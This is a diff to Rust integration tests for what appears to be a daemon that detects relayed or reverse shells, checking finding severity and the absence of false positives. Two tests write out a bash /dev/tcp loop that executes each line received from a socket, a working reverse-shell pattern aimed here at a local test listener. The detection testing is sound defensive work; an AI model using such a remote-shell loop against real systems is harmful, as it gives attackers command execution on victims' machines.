@@ -13,7 +13,7 @@ mod common;
 use common::attacker::Listener;
 use common::daemon::Daemon;
 use common::finding::Finding;
-use common::relayed::{ends, wait_or_show};
+use common::relayed::{ends, is_on, prove_popen, wait_or_show};
 use common::victim::Victim;
 
 /// Starts a loop that runs each line it gets, sends it two, and proves one finding with both.
@@ -69,29 +69,40 @@ fn bash_cat_loop() {
 }
 
 /// bash keeps the answer and writes it to the socket by itself. What a shell does for a pipeline looks the same for a
-/// moment, so that only commands that live longer are found.
+/// moment: here it waits for what the command prints.
 #[test]
 fn bash_substitution_loop() {
-    require!("bash", "top", "free");
+    require!("bash");
     Daemon::shared();
     let attacker = Listener::tcp();
     let port = attacker.port();
-    let line =
-        "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do o=$($l 2>&1); echo \"$o.\" >&5; done";
+    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do o=$($l 2>&1); echo \"$o\" >&5; done";
+    let victim = Victim::start("/bin/bash", &["-c", &line.replace("PORT", &port.to_string())]);
+    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, port, "bash");
+    assert_eq!(found.severity(), "LOW", "{}", found.brief());
+}
+
+/// The same shell with pipelines that it only starts: what they print goes to a file.
+#[test]
+fn bash_pipelines_beside_a_socket_are_no_finding() {
+    require!("bash");
+    Daemon::shared();
+    let attacker = Listener::tcp();
+    let port = attacker.port();
+    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do \
+        id -u | cat > /dev/null; uname -s | cat | cat > /dev/null; hostname | grep . > /dev/null; echo did >&5; done";
     let victim = Victim::start("/bin/bash", &["-c", &line.replace("PORT", &port.to_string())]);
     let mut session = attacker.accept();
-    for line in ["top -b -n2 -d0.2", "free -s0.1 -c3"] {
-        session.send(&format!("{line}\n"));
-        session.hear(".\n");
+    for _ in 0..10 {
+        session.send("go\n");
+        session.hear("did\n");
     }
-    let found = wait_or_show(Daemon::shared(), &[port], "row 6", |record| {
-        record.row() == 6
-            && record.ran(&["top", "-b", "-n2", "-d0.2"])
-            && record.ran(&["free", "-s0.1", "-c3"])
-    });
-    assert_eq!((found.text("Tether_Kind"), found.severity()), ("relayed", "LOW"), "{}", found.brief());
     drop(session);
-    ends(Daemon::shared(), victim, &[port], &found, 1);
+    drop(victim);
+    Daemon::shared().judged();
+    let found: Vec<_> =
+        Daemon::shared().records().into_iter().filter(|record| is_on(record, &[port])).collect();
+    assert!(found.is_empty(), "{}", found[0].brief());
 }
 
 #[test]
